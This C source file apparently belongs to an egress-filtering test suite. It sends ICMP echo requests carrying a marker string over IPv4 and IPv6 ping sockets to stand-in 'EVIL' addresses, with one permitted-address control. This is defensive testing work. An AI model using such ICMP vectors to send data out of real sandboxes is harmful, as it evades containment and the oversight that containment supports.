// SPDX-License-Identifier: MIT
/* Ping sockets: an echo request from any group that net.ipv4.ping_group_range lets. */
#include "egress.h"

#include <netinet/icmp6.h>
#include <netinet/ip_icmp.h>
#include <string.h>

static void echo(int fd, unsigned char type, const void *address, socklen_t length)
{
	unsigned char packet[64] = {type};

	memcpy(packet + sizeof(struct icmphdr), self.marker, strlen(self.marker));
	step("sendto", sendto(fd, packet, sizeof(struct icmphdr) + strlen(self.marker), 0, address, length));
}

static void ping4_to(const char *address)
{
	struct sockaddr_in destination = ipv4(address);

	destination.sin_port = 0;
	echo(open_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP), ICMP_ECHO, &destination, sizeof(destination));
}

static void ping4_sendto(int)
{
	ping4_to(EVIL_IPV4);
}

static void ping4_sendto_ok(int)
{
	ping4_to(OK_IPV4);
}

static void ping4_connect_send(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);

	destination.sin_port = 0;
	connect_to(fd, &destination, sizeof(destination));
	echo(fd, ICMP_ECHO, NULL, 0);
}

static void ping6_sendto(int)
{
	struct sockaddr_in6 destination = ipv6(EVIL_IPV6);

	destination.sin6_port = 0;
	echo(open_socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6), ICMP6_ECHO_REQUEST, &destination, sizeof(destination));
}

static void ping6_connect_send(int)
{
	int fd = open_socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6);
	struct sockaddr_in6 destination = ipv6(EVIL_IPV6);

	destination.sin6_port = 0;
	connect_to(fd, &destination, sizeof(destination));
	echo(fd, ICMP6_ECHO_REQUEST, NULL, 0);
}

const struct vector icmp_vectors[] = {
	{"ping4_sendto", ping4_sendto},
	{"ping4_sendto_ok", ping4_sendto_ok},
	{"ping4_connect_send", ping4_connect_send},
	{"ping6_sendto", ping6_sendto},
	{"ping6_connect_send", ping6_connect_send},
	{},
};
